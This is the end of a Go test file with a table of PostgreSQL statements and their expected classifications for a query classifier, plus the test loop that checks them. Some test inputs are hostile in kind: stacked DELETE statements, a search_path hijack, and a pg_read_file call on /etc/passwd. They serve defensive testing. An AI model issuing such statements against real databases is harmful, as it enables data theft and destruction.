	{"SHOW search_path", R, "show", nil, nil, false, nil},
	{"SHOW ALL", R, "show", nil, nil, false, nil},

	// Transactions.
	{"BEGIN", R, "begin", nil, nil, false, nil},
	{"BEGIN READ ONLY", R, "begin", nil, nil, false, nil},
	{"BEGIN READ WRITE", R | P, "begin", nil, nil, false, nil},
	{"START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", R | P, "start_transaction", nil, nil, false, nil},
	{"BEGIN TRANSACTION ISOLATION LEVEL REPEATABLE READ", R, "begin", nil, nil, false, nil},
	{"COMMIT", R, "commit", nil, nil, false, nil},
	{"END", R, "commit", nil, nil, false, nil},
	{"COMMIT AND CHAIN", R, "commit", nil, nil, false, nil},
	{"ROLLBACK", R, "rollback", nil, nil, false, nil},
	{"ABORT", R, "rollback", nil, nil, false, nil},
	{"SAVEPOINT a", R, "savepoint", nil, nil, false, nil},
	{"RELEASE SAVEPOINT a", R, "release", nil, nil, false, nil},
	{"ROLLBACK TO SAVEPOINT a", R, "rollback_to_savepoint", nil, nil, false, nil},
	{"PREPARE TRANSACTION 'gx'", W, "prepare_transaction", nil, nil, false, nil},
	{"COMMIT PREPARED 'gx'", W | P, "commit_prepared", nil, nil, false, nil},
	{"ROLLBACK PREPARED 'gx'", P, "rollback_prepared", nil, nil, false, nil},
	{"SET CONSTRAINTS ALL DEFERRED", R, "set_constraints", nil, nil, false, nil},

	// Maintenance, locks, notifications, cursors, DISCARD.
	{"VACUUM t", W, "vacuum", l("t"), nil, false, nil},
	{"VACUUM (FULL, ANALYZE) t", W | D, "vacuum", l("t"), nil, false, nil},
	{"ANALYZE t", W, "analyze", l("t"), nil, false, nil},
	{"CLUSTER t USING t_pkey", W | D, "cluster", l("t"), nil, false, nil},
	{"REINDEX TABLE t", W | D, "reindex", l("t"), nil, false, nil},
	{"REFRESH MATERIALIZED VIEW CONCURRENTLY mv", W, "refresh_materialized_view", l("mv"), nil, false, nil},
	{"LOCK TABLE t IN ACCESS EXCLUSIVE MODE", W, "lock", l("t"), nil, false, nil},
	{"LISTEN ch", R, "listen", nil, nil, false, nil},
	{"UNLISTEN *", R, "unlisten", nil, nil, false, nil},
	{"NOTIFY ch, 'payload'", W, "notify", nil, nil, false, nil},
	{"DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t", R, "declare_cursor", l("t"), nil, false, nil},
	{"DECLARE c2 CURSOR FOR SELECT * FROM t FOR UPDATE", R | W, "declare_cursor", l("t"), nil, false, nil},
	{"FETCH 10 FROM c", R, "fetch", nil, nil, false, nil},
	{"MOVE NEXT IN c", R, "move", nil, nil, false, nil},
	{"CLOSE ALL", R, "close", nil, nil, false, nil},
	{"DISCARD ALL", R | P, "discard_all", nil, nil, false, l("all")},
	{"DISCARD PLANS", R, "discard_plans", nil, nil, false, nil},
	{"DISCARD TEMP", D | X, "discard_temp", nil, nil, false, nil},

	// Several statements in one string: the union decides.
	{"SELECT 1; SELECT 2", R, "select", nil, nil, false, nil},
	{"SELECT 1; DELETE FROM t", R | W | X, "select", l("t"), nil, true, nil},
	{"SELECT 'a' /* ; DROP TABLE t */ ; SELECT 2", R, "select", nil, nil, false, nil},
	{"COMMIT; DELETE FROM t WHERE id = 1", R | W, "commit", l("t"), nil, false, nil},
	{"BEGIN; UPDATE t SET v = 'x' WHERE id = 1; COMMIT", R | W, "begin", l("t"), nil, false, nil},
	{"BEGIN READ ONLY; SELECT * FROM t; ROLLBACK", R, "begin", l("t"), nil, false, nil},
	{"SET search_path = evil; SELECT lower('x')", R | P, "set", nil, l("lower"), false, l("search_path")},
	{"SELECT 1;;; SELECT 2;", R, "select", nil, nil, false, nil},
	{"select 1; select pg_read_file('/etc/passwd'); select 3", R | P, "select", nil, l("pg_read_file"), false, nil},

	// Extended protocol: statement texts with parameters, as sent in Parse.
	{"SELECT * FROM t WHERE id = $1", R, "select", l("t"), nil, false, nil},
	{"UPDATE t SET v = $1 WHERE id = $2", W, "update", l("t"), nil, false, nil},
	{"UPDATE t SET v = $1", W | X, "update", l("t"), nil, true, nil},
	{"DELETE FROM t WHERE $1", W | X, "delete", l("t"), nil, true, nil},
	{"DELETE FROM t WHERE id = $1::int", W, "delete", l("t"), nil, false, nil},
	{"INSERT INTO t (id, v) VALUES ($1, $2) RETURNING id", W, "insert", l("t"), nil, false, nil},

	// Not parseable, empty.
	{"SELEC 1", U, "invalid", nil, nil, false, nil},
	{"SELECT 'unterminated", U, "invalid", nil, nil, false, nil},
	{"DELETE FROM", U, "invalid", nil, nil, false, nil},
	{"SELECT 1; DELETE FRM t", U, "invalid", nil, nil, false, nil},
	{"SELECT 1\x00; DELETE FROM t", U, "invalid", nil, nil, false, nil},
	{"", R, "", nil, nil, false, nil},
	{" -- only a comment", R, "", nil, nil, false, nil},
}

func TestClassifyTable(t *testing.T) {
	if len(table) < 150 {
		t.Fatalf("table has %d statements, want at least 150", len(table))
	}
	seen := map[string]bool{}
	for _, tc := range table {
		if seen[tc.sql] {
			t.Errorf("duplicate table entry %q", tc.sql)
		}
		seen[tc.sql] = true
		a := Classify(tc.sql)
		kind := ""
		if len(a.Statements) > 0 {
			kind = a.Statements[0].Kind
		}
		if a.Class != tc.class || kind != tc.kind || !sameList(a.Tables, tc.tables) ||
			!sameList(a.Functions, tc.funcs) || a.WhereMissing != tc.where || !sameList(a.Settings, tc.settings) {
			t.Errorf("%q:\n got  class=%s kind=%s tables=%q funcs=%q where=%v settings=%q\n want class=%s kind=%s tables=%q funcs=%q where=%v settings=%q\n reasons=%q err=%v",
				tc.sql, a.Class, kind, a.Tables, a.Functions, a.WhereMissing, a.Settings,
				tc.class, tc.kind, tc.tables, tc.funcs, tc.where, tc.settings, reasons(a), a.Err)
		}
		checkInvariants(t, a)
	}
}

func sameList(got, want []string) bool {
	if len(got) == 0 && len(want) == 0 {
		return true
	}
	return slices.Equal(got, want)
}

func reasons(a *Analysis) []string {
	var out []string
	for _, st := range a.Statements {
		out = append(out, st.Reasons...)
	}
	return out
}
